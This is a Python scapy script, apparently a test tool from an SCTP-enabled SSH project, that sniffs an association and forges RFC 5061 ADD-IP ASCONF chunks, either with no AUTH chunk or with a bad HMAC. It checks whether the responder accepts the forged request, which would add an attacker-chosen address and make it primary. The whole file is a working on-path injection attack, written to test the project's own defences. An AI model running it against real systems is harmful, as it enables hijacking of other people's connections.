#!/usr/bin/python3
# asconf-forge: an attacker on the path forges ADD-IP (RFC 5061) for an
# association it watches (the seeds' attack T13), with scapy.
#
#   asconf-forge.py IFACE DPORT NEWADDR MODE...
#	sniff IFACE for an association set up to port DPORT: its INIT (the
#	initiator's port and initial TSN, which the first ASCONF's serial
#	number must equal) and a packet from the initiator after it (the
#	verification tag the responder expects); then, for each MODE, send
#	the responder an ASCONF from the initiator's address that adds
#	NEWADDR and makes it primary:
#	  noauth   no AUTH chunk
#	  badauth  an AUTH chunk (key 0, HMAC-SHA-1) with a wrong HMAC
#	Prints "sniffing" once it watches, "learned SPORT TAG TSN", and for
#	each MODE "sent MODE: acked" if the responder answered with an
#	ASCONF-ACK within 3 s (it took the ASCONF), else "sent MODE:
#	ignored"; exits 1 if it saw no association within 120 s.
#
# Copyright (c) 2026 The openssh-sctp authors.  BSD licence: see LICENCE.

import os
import sys

from scapy.all import IP, IPv6, conf, send, sniff
from scapy.layers.sctp import (SCTP, SCTPChunkAddressConf,
                               SCTPChunkAddressConfAck,
                               SCTPChunkAuthentication, SCTPChunkInit,
                               SCTPChunkParamAddIPAddr,
                               SCTPChunkParamIPv4Addr, SCTPChunkParamIPv6Addr,
                               SCTPChunkParamSetPrimaryAddr)

conf.verb = 0
iface, dport, newaddr = sys.argv[1], int(sys.argv[2]), sys.argv[3]
modes = sys.argv[4:]
seen = {}


def ip_of(p):
    return p[IP] if IP in p else p[IPv6]


def watch(p):
    if SCTP not in p:
        return False
    s = p[SCTP]
    if SCTPChunkInit in p and s.dport == dport and "init" not in seen:
        seen["init"] = (ip_of(p).src, ip_of(p).dst, s.sport,
                        p[SCTPChunkInit].init_tsn)
        return False
    if "init" in seen:
        src, dst, sport, _ = seen["init"]
        if ip_of(p).src == src and s.sport == sport and s.tag != 0:
            seen["tag"] = s.tag
            return True
    return False


sniff(iface=iface, stop_filter=watch, timeout=120, store=0,
      started_callback=lambda: print("sniffing", flush=True))
if "tag" not in seen:
    print("no association seen")
    sys.exit(1)
src, dst, sport, tsn = seen["init"]
tag = seen["tag"]
print("learned %d %08x %d" % (sport, tag, tsn), flush=True)
v6 = ":" in src
net = IPv6 if v6 else IP
addrparam = (SCTPChunkParamIPv6Addr(addr=src) if v6 else
             SCTPChunkParamIPv4Addr(addr=src))
atype = 6 if v6 else 5
for mode in modes:
    asconf = SCTPChunkAddressConf(seq=tsn, params=[
        addrparam,
        SCTPChunkParamAddIPAddr(correlation_id=1, addr_type=atype,
                                addr=newaddr),
        SCTPChunkParamSetPrimaryAddr(correlation_id=2, addr_type=atype,
                                     addr=newaddr)])
    chunks = asconf
    if mode == "badauth":
        chunks = SCTPChunkAuthentication(shared_key_id=0, HMAC_function=1,
                                         HMAC=os.urandom(20)) / asconf
    pkt = (net(src=src, dst=dst) / SCTP(sport=sport, dport=dport, tag=tag) /
           chunks)
    acks = sniff(iface=iface, timeout=3,
                 lfilter=lambda p: SCTPChunkAddressConfAck in p and
                 ip_of(p).src == dst,
                 started_callback=lambda: send(pkt))
    print("sent %s: %s" % (mode, "acked" if acks else "ignored"),
          flush=True)
